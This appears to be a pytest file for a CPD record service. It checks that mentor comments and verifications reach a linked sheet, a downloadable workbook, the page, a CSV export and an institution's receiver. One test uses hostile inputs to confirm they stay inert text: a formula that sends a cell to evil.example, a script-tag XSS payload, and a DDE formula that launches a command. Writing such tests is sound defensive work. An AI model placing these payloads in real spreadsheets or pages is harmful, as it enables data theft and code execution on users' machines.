"""Where a mentor's comments and verifications land, on SQLite and PostgreSQL: the linked Google Sheet (a
cell note and the verification columns, through the Sheets fake), the workbook the member downloads
(read back with openpyxl), the page, the CSV of notes, and the document the institution's reference
receiver stores. Hostile text stays text everywhere."""
from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl

from conftest import RECEIVER_SECRET, prove_link, run_jobs, sheet_url
from mentor_world import EMAILS, EXAMPLE, build
from sync_service import db
from sync_service.jobs.delivery import Endpoint, run_once
from sync_service.store.models import Member
from sync_service.receiver import received_documents

SECRET = RECEIVER_SECRET
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>'


def header_columns(sheet, row=9) -> dict[str, int]:
    """The fake sheet's table header: header text -> 1-based column."""
    return {c.value: col for (r, col), c in sheet.cells.items() if r == row and isinstance(c.value, str)}


def name_mentor(app, name: str) -> None:
    with app.app_context():
        s = db.session()
        s.query(Member).filter_by(email=EMAILS["mentor"]).one().name = name
        s.commit()


def deliver(app, url) -> dict:
    assert run_once(app.extensions["cpd_sessions"], Endpoint(url[0], (SECRET,))) == "delivered"
    docs = received_documents(url[1])
    assert len(docs) == 1
    return next(iter(docs.values()))


def sheet_record(world, book):
    """The owner's record kept in a linked sheet: the sheet linked (and proven), then kept as a record."""
    call = lambda method, path, json=None: world.api("owner", method, path, json=json)   # noqa: E731
    prove_link(call, book, via="/api/v1/records")
    return world.api("owner", "POST", "/api/v1/records", json={"sheet": sheet_url(book)})


def test_a_comment_and_a_verification_reach_the_sheet_the_workbook_and_the_institution(
        service, fake_sheets, receiver_server):
    world = build(service)
    book = fake_sheets.load_xlsx(EXAMPLE,
                                 share={fake_sheets.email: "writer"}, title="Alex's CPD")
    linked = sheet_record(world, book)
    assert linked.status_code in (200, 201), linked.json
    record = linked.json["id"]
    assert linked.json["source"] == "sheet" and record == world.record       # the same period and profile
    name_mentor(service, "Dr Sam Patel")
    row = world.rows[3]
    before = fake_sheets.batch_updates

    made = world.api("mentor", "POST", f"/api/v1/records/{record}/annotations",
                     json={"activity_row": row, "comment": "Solid reflection; link it to O2.", "verified": True})
    assert made.status_code == 201 and made.json["sheet"] == {"queued": True}, made.json
    assert fake_sheets.batch_updates == before                               # the mentor's request waits for no one
    assert run_jobs(service)["sheet_write"] == 1                             # a worker writes it
    assert fake_sheets.batch_updates == before + 1                           # the notes: one batchUpdate

    # the sheet: a note on the row's Mentor comment cell, the verification in its columns as RAW values
    sheet = book.sheets["Record"]
    cols = header_columns(sheet)
    note = sheet.cells[(row, cols["Mentor comment"])].note
    assert "Dr Sam Patel" in note and "Verified. Solid reflection; link it to O2." in note
    assert sheet.cells[(row, cols["Verified by"])].value == "Dr Sam Patel"
    assert sheet.cells[(row, cols["Verified on"])].value == date.today().isoformat()
    assert sheet.cells[(row, cols["Verified by"])].formula is None
    # the member's own entries are untouched
    assert sheet.cells[(row, cols["Description of development/learning activity"])].value

    # the workbook the member downloads: a cell comment and the verification columns
    wb = openpyxl.load_workbook(io.BytesIO(world.api("owner", "GET", f"/api/v1/records/{record}/workbook").data))
    ws = wb["Record"]
    heads = {c.value: c.column for c in ws[9] if c.value}
    at = 10 + world.rows.index(row)
    assert "Solid reflection" in ws.cell(at, heads["Mentor comment"]).comment.text
    assert ws.cell(at, heads["Verified by"]).value == "Dr Sam Patel"
    assert ws.cell(at, heads["Verified on"]).value.date() == date.today()

    # the institution's copy: which activity was verified, by whom, when, and the comment
    sub = world.api("owner", "POST", f"/api/v1/records/{record}/submit")
    assert sub.status_code == 201, sub.json
    doc = deliver(service, receiver_server)
    verifications = [dict(zip(doc["verifications"]["columns"], r)) for r in doc["verifications"]["rows"]]
    assert [(v["activity_row"], v["verified_by"]) for v in verifications] == [(row, "Dr Sam Patel")]
    assert verifications[0]["verified_at"].startswith(date.today().isoformat())
    comments = [dict(zip(doc["mentor_comments"]["columns"], r)) for r in doc["mentor_comments"]["rows"]]
    assert comments == [{"activity_row": row, "objective": None, "author": "Dr Sam Patel",
                         "written_at": verifications[0]["verified_at"], "comment": "Solid reflection; link it to O2."}]
    assert "row" in doc["activities"]["columns"]

    # removing the verification clears what the service wrote into the sheet, and its note
    assert world.api("mentor", "DELETE", f"/api/v1/records/{record}/annotations/{made.json['id']}").status_code == 204
    run_jobs(service)
    assert sheet.cells[(row, cols["Verified by"])].value in ("", None)
    assert not sheet.cells[(row, cols["Mentor comment"])].note


def test_a_sheet_that_cannot_be_written_keeps_the_annotation_and_says_why(service, fake_sheets):
    world = build(service)
    book = fake_sheets.load_xlsx(EXAMPLE,
                                 share={fake_sheets.email: "reader"})
    record = sheet_record(world, book).json["id"]
    made = world.api("mentor", "POST", f"/api/v1/records/{record}/annotations",
                     json={"activity_row": world.rows[0], "comment": "Fine"})
    assert made.status_code == 201 and made.json["sheet"] == {"queued": True}
    run_jobs(service)
    shown = world.api("owner", "GET", f"/api/v1/records/{record}").json
    assert shown["sheet_error"].startswith("sheets_read_only") and len(shown["annotations"]) == 1
    assert world.api("mentor", "GET", f"/api/v1/records/{record}").json["sheet_error"] is None


def test_hostile_comments_stay_text_everywhere(service, fake_sheets):
    world = build(service)
    name_mentor(service, '=cmd|" /C calc"!A0')
    book = fake_sheets.load_xlsx(EXAMPLE,
                                 share={fake_sheets.email: "writer"})
    record = sheet_record(world, book).json["id"]
    row = world.rows[0]
    made = world.api("mentor", "POST", f"/api/v1/records/{record}/annotations",
                     json={"activity_row": row, "comment": HOSTILE, "verified": True})
    assert made.status_code == 201 and made.json["comment"] == HOSTILE and made.json["sheet"]["queued"]
    run_jobs(service)
    too_long = world.api("mentor", "POST", f"/api/v1/records/{record}/annotations",
                         json={"activity_row": row, "comment": "x" * 10_000})
    assert too_long.status_code == 422 and too_long.json["error"]["code"] == "comment_too_long"
    assert "4,000" in too_long.json["error"]["message"]

    # the page: escaped, never markup
    client, _ = world.browser("owner")
    page = client.get(f"/records/{record}").data.decode()
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # the sheet: a note is text; the verification was written RAW, so it is a value, not a formula
    sheet = book.sheets["Record"]
    cols = header_columns(sheet)
    assert HOSTILE in sheet.cells[(row, cols["Mentor comment"])].note
    by = sheet.cells[(row, cols["Verified by"])]
    assert by.value == '=cmd|" /C calc"!A0' and by.formula is None
    # the workbook: the comment is a comment, the name a text cell
    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/records/{record}/workbook").data))
    ws = wb["Record"]
    heads = {c.value: c.column for c in ws[9] if c.value}
    cell = ws.cell(10, heads["Verified by"])
    assert cell.value == '=cmd|" /C calc"!A0' and cell.data_type == "s"
    assert HOSTILE in ws.cell(10, heads["Mentor comment"]).comment.text
    # the CSV of notes: every cell that a spreadsheet would run starts with an apostrophe
    rows = list(csv.reader(io.StringIO(client.get(f"/records/{record}/notes.csv").data.decode("utf-8-sig"))))
    assert rows[1][2] == "'" + '=cmd|" /C calc"!A0' and rows[1][5] == "'" + HOSTILE


def test_comments_on_the_plan_and_the_whole_record_land_in_the_workbook(service):
    world = build(service)
    world.annotate(activity_row=None, objective="O2", comment="Good objective")
    world.annotate(activity_row=None, comment="A well-kept record overall")
    wb = openpyxl.load_workbook(io.BytesIO(world.api("owner", "GET", f"/api/v1/records/{world.record}/workbook").data))
    plan_refs = {c.value: c.row for c in wb["Plan"]["A"] if c.value}
    assert "Good objective" in wb["Plan"].cell(plan_refs["O2"], 1).comment.text
    assert "A well-kept record overall" in wb["Record"]["A1"].comment.text
    client, _ = world.browser("owner")
    page = client.get(f"/records/{world.record}").data.decode()
    assert "Good objective" in page and "A well-kept record overall" in page


def test_an_annotation_follows_its_activity_when_rows_are_inserted_above_it(service, fake_sheets):
    """The member inserts a row above a verified activity: the next upload moves the verification with
    its activity, and so does the linked sheet's note."""
    import openpyxl
    world = build(service)
    row = world.rows[2]
    world.annotate(activity_row=row, comment="Checked the certificate", verified=True)
    wb = openpyxl.load_workbook(io.BytesIO(EXAMPLE))
    wb["Record"].insert_rows(10)                                  # a new first activity, above all the others
    for col, value in ((1, date(2025, 1, 5)), (3, "New induction course"), (10, 3)):
        wb["Record"].cell(10, col).value = value
    buf = io.BytesIO()
    wb.save(buf)
    res = world.api("owner", "POST", "/api/v1/records", data=buf.getvalue())
    assert res.status_code == 201 and res.json["version"] == 2
    (note,) = world.api("owner", "GET", f"/api/v1/records/{world.record}/annotations").json["annotations"]
    assert note["activity_row"] == row + 1                         # moved with its activity
    shown = world.api("owner", "GET", f"/api/v1/records/{world.record}").json
    moved = [a for a in shown["activities"] if a["row"] == row + 1][0]
    assert moved["title"] == "Presenting to the project board"

    book = fake_sheets.load_xlsx(buf.getvalue(), share={fake_sheets.email: "writer"})
    sheet_record(world, book)
    sheet = book.sheets["Record"]
    sheet.cells = {(r + 1 if r >= 10 else r, c): v for (r, c), v in sheet.cells.items()}   # another row, in the sheet
    world.annotate(activity_row=world.rows[0] + 1, comment="Fine")
    run_jobs(service)
    cols = header_columns(sheet)
    assert sheet.cells[(row + 2, cols["Verified by"])].value == EMAILS["mentor"]            # found where it went
    assert "Checked the certificate" in sheet.cells[(row + 2, cols["Mentor comment"])].note


def test_checking_a_sheet_record_pulls_the_sheet_again_for_its_owner_only(service, fake_sheets):
    world = build(service)
    book = fake_sheets.load_xlsx(EXAMPLE, share={fake_sheets.email: "reader"})
    record = sheet_record(world, book).json["id"]
    first = world.api("owner", "GET", f"/api/v1/records/{record}").json["version"]
    book.sheets["Record"].cells[(10, 3)].value = "Power electronics design course, second week"
    before = fake_sheets.api_calls()
    by_mentor = world.api("mentor", "POST", f"/api/v1/records/{record}/check")
    assert by_mentor.status_code == 200 and by_mentor.json["version"] == first
    assert fake_sheets.api_calls() == before                       # a mentor's check reads nothing from Google
    by_owner = world.api("owner", "POST", f"/api/v1/records/{record}/check")
    assert by_owner.status_code == 200 and by_owner.json["version"] == first + 1
    client, token = world.browser("owner")
    res = client.post(f"/records/{record}/check", data={"csrf": token})
    assert res.status_code == 302 and res.headers["Location"].endswith(f"/records/{record}")
